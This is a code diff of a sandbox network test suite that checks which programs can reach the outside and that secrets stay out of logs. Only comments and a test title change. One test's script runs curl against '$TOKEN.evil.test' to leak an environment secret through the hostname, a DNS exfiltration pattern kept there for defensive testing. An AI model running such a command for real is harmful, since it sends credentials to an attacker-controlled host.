@@ -1,6 +1,4 @@
-/**
- * What leaves the sandbox: with the programs people use, and with those that look for a way round.
- */
+/** What leaves the sandbox, with common programs and with programs that look for a way around. */
 
 import { once } from "node:events";
 import { existsSync, writeFileSync } from "node:fs";
@@ -51,7 +49,7 @@ import urllib.request
 try: print("python:", urllib.request.urlopen("${url}", timeout=5).read().decode().strip())
 except Exception as e: print("python:", e)`;
 
-/** Each prints what it got; one that isn't installed in this machine's /usr is left out. */
+/** Each prints what it received; programs that this machine lacks are left out. */
 const clients = [
   {
     program: "curl",
@@ -126,7 +124,7 @@ describe("NET-2 an allow-list", options, () => {
     expect(internet.dns.asked).not.toContain("other.test");
   });
 
-  test("and keeps secrets out of the log, whoever asks for one as a host", async () => {
+  test("and keeps secrets out of the log, even if one is asked for as a host", async () => {
     const secrets = [{ key: "TOKEN", value: "Sk-live-0123456789abcdef" }];
     const script = "curl -s http://$TOKEN.evil.test/; curl -s https://$TOKEN.evil.test/; exit 1";
     const { gateway } = await run(script, { ...claimed, secrets });
